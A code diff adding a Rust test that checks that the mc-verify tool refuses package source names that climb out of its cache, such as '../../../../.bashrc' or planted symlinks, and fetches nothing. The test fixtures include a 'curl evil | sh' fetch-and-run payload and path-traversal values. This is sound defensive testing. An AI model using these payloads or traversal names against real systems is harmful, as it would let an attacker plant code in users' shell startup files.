@@ -1080,3 +1080,89 @@ fn weak_sums_missing_signers_and_climbing_paths_are_flagged() {
         "{refused:?}"
     );
 }
+
+/// Runs mc-verify with `home` as HOME and no XDG_CACHE_HOME, so its default cache is
+/// `HOME/.cache/minicluster/sources`: a name that climbs out of the cache reaches the files a
+/// user cares about.
+fn verify_at_home(home: &Path, args: &[&str]) -> Run {
+    let output = Command::new(bin("mc-verify"))
+        .args(args)
+        .env("HOME", home)
+        .env_remove("XDG_CACHE_HOME")
+        .stdin(std::process::Stdio::null())
+        .output()
+        .expect("mc-verify runs");
+    pipeline_tests::parse_output(&output)
+}
+
+#[test]
+fn source_names_that_leave_the_cache_are_refused_and_nothing_outside_is_touched() {
+    require("git", "git");
+    let upstream = tempfile::tempdir().expect("tempdir");
+    fs::write(upstream.path().join("payload"), b"curl evil | sh\n").expect("write");
+    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
+    let url = format!("{}/payload", server.url());
+    let home = tempfile::tempdir().expect("tempdir");
+    let (bashrc, profile) = (home.path().join(".bashrc"), home.path().join(".profile"));
+    fs::write(&bashrc, "original bashrc\n").expect("write");
+    fs::write(&profile, "original profile\n").expect("write");
+    let work = tempfile::tempdir().expect("tempdir");
+    let escape = work.path().join("escape");
+    let absolute = home.path().join("absolute");
+    let sources = [
+        // Would overwrite ~/.bashrc with the payload (its checksum matches)...
+        (
+            format!("../../../../.bashrc::{url}"),
+            sha256(b"curl evil | sh\n"),
+        ),
+        // ...and delete ~/.profile, whose checksum does not.
+        (format!("../../../../.profile::{url}"), sha256(b"other")),
+        (format!("{}::{url}", absolute.display()), "SKIP".to_owned()),
+        (
+            format!("..::git+{}/app.git", server.url()),
+            "SKIP".to_owned(),
+        ),
+        (
+            format!("../../tmp::git+{}/app.git", server.url()),
+            "SKIP".to_owned(),
+        ),
+        // No name: makepkg's would be what follows the query's last `/`, here `..`.
+        (format!("{url}?f=/.."), "SKIP".to_owned()),
+        (format!("fine.txt::{url}"), "SKIP".to_owned()),
+    ];
+    pkgbuild(&escape, "escape", &sources, "", "pkgname=escape\n");
+    // Links planted inside the cache: a cached file and a package base's folder.
+    let cache = home.path().join(".cache/minicluster/sources");
+    fs::create_dir_all(cache.join("planted")).expect("cache");
+    std::os::unix::fs::symlink(&profile, cache.join("planted/src.tar")).expect("symlink");
+    std::os::unix::fs::symlink(home.path(), cache.join("linked")).expect("symlink");
+    let planted = work.path().join("planted");
+    let wrong = [(format!("src.tar::{url}"), sha256(b"other"))];
+    pkgbuild(&planted, "planted", &wrong, "", "pkgname=planted\n");
+    let linked = work.path().join("linked");
+    let into_home = [(format!(".bashrc::{url}"), sha256(b"curl evil | sh\n"))];
+    pkgbuild(&linked, "linked", &into_home, "", "pkgname=linked\n");
+    let folders = [&escape, &planted, &linked].map(|f| f.display().to_string());
+    let run = verify_at_home(home.path(), &[&folders[0], &folders[1], &folders[2]]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert_eq!(fs::read(&bashrc).expect("bashrc"), b"original bashrc\n");
+    assert_eq!(fs::read(&profile).expect("profile"), b"original profile\n");
+    assert!(!absolute.exists() && !home.path().join("tmp").exists());
+    assert_eq!(
+        server.requests(),
+        Vec::<String>::new(),
+        "nothing is fetched"
+    );
+    let hostile: Vec<&serde_json::Value> = run
+        .of_type("finding")
+        .into_iter()
+        .filter(|f| f["check"] == "hostile-source" && f["severity"] == "error")
+        .collect();
+    assert_eq!(hostile.len(), 6, "{hostile:#?}");
+    let verdicts = by_file(&run);
+    assert_eq!(verdicts["fine.txt"], "unverified", "not fetched either");
+    assert_eq!(verdicts["src.tar"], "unreachable");
+    assert_eq!(verdicts[".bashrc"], "unreachable");
+    let left = fs::read_link(cache.join("planted/src.tar")).expect("the planted link stays");
+    assert_eq!(left, profile);
+}
